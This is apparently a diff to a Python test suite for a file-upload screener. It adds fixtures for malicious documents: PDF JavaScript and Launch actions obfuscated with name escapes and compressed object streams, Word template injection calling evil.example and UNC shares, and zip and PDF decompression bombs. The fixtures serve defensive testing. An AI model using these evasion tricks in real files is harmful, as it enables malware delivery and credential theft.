@@ -3,6 +3,7 @@
 import io
 import socket
 import zipfile
+import zlib
 from dataclasses import replace
 from datetime import datetime
 from hashlib import sha256
@@ -33,6 +34,24 @@ def located_photo(form="JPEG"):
     notes[0x010F] = "Camera"
     notes.get_ifd(0x8825)[2] = (31.0, 12.0, 30.5)
     return picture(form, exif=notes.tobytes())
+
+
+def hidden(objects):
+    """Return a stream of objects, packed, as programs write them since PDF 1.5."""
+    return b"<</Type/ObjStm/N 1>>stream\n" + zlib.compress(objects) + b"\nendstream endobj"
+
+
+def related(target, what="attachedTemplate"):
+    return (
+        '<Relationships><Relationship Id="r" TargetMode="External" Type="http://schemas.'
+        f'openxmlformats.org/officeDocument/2006/relationships/{what}" Target="{target}"/>'
+        "</Relationships>"
+    )
+
+
+def office(rels):
+    more = {"word/_rels/settings.xml.rels": rels}
+    return package("[Content_Types].xml", "word/document.xml", **more)
 
 
 def package(*names, **contents):
@@ -101,6 +120,16 @@ def test_the_kind_is_told_by_content(name, content, kind):
         ("a.docx", package("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"),
          "macro"),
         ("a.pdf", PDF.replace(b"<<>>endobj", b"<</S/JavaScript/JS(1)>>endobj"), "macro"),
+        ("a.pdf", PDF.replace(b"<<>>endobj", b"<</S/Java#53cript/J#53(1)>>endobj"), "macro"),
+        ("a.pdf", PDF.replace(b"<<>>endobj", hidden(b"<</S/JavaScript/JS(1)>>")), "macro"),
+        ("a.pdf", PDF.replace(b"<<>>endobj", hidden(b"<</S/#4caunch>>")), "macro"),
+        ("a.pdf", PDF.replace(b"<<>>endobj", hidden(bytes(40 * 2**20))), "bomb"),
+        ("a.docx", office(rels=related("https://evil.example/x.dotm")), "macro"),
+        ("a.docx", office(rels=related("file://server/x.dotm")), "macro"),
+        ("a.docx", office(rels=related(r"\\server\x.dotm")), "macro"),
+        ("a.xlsx", package("[Content_Types].xml", **{"xl/a.xml": '<!DOCTYPE x [<!ENTITY a "b">]>'}),
+         "damaged"),
+        ("a.zip", package(*(f"{n:0250}" for n in range(6_000))), "bomb"),
         ("a.pdf", PDF.replace(b"trailer<<>>", b"trailer<</Encrypt 3 0 R>>"), "locked"),
         ("a.pdf", PDF[:-8], "damaged"),
         ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "WordDocument_VBA_PROJECT"
@@ -117,6 +146,16 @@ def test_what_runs_hides_or_breaks_is_refused_with_a_sentence(name, content, cod
     assert given.code == code
     assert given.say("zh")
     assert given.say("en") != given.say("zh")
+
+
+def test_what_only_looks_like_it_comes_in():
+    scan = b"<<>>stream\n" + b"\x01/JS \x02/Open" * 50 + b"endstream endobj"
+    assert isinstance(answer("a.pdf", PDF.replace(b"<<>>endobj", scan)), Admitted)
+    assert isinstance(answer("a.pdf", PDF.replace(b"<<>>endobj", hidden(b"<<>>"))), Admitted)
+    own = related("file:///C:/Users/chen/AppData/Roaming/Microsoft/Templates/Normal.dotm")
+    assert isinstance(answer("a.docx", office(rels=own)), Admitted)
+    link = related("https://example.cn/", "hyperlink")
+    assert isinstance(answer("a.docx", office(rels=link)), Admitted)
 
 
 @pytest.mark.parametrize("stored", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])
